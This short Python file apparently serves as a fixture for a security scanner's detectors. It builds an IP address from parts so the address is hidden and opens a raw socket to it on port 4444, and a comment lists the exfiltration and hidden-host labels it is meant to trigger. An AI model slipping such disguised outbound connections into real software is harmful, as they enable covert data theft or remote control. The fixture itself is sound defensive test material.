import socket

host = ".".join(str(part) for part in (203, 0, 113, 9))
link = socket.socket()
link.connect((host, 4000 + 444)) # expect: data-exfiltration/raw-socket, url-analyzer/hidden-host, url-analyzer/raw-ip
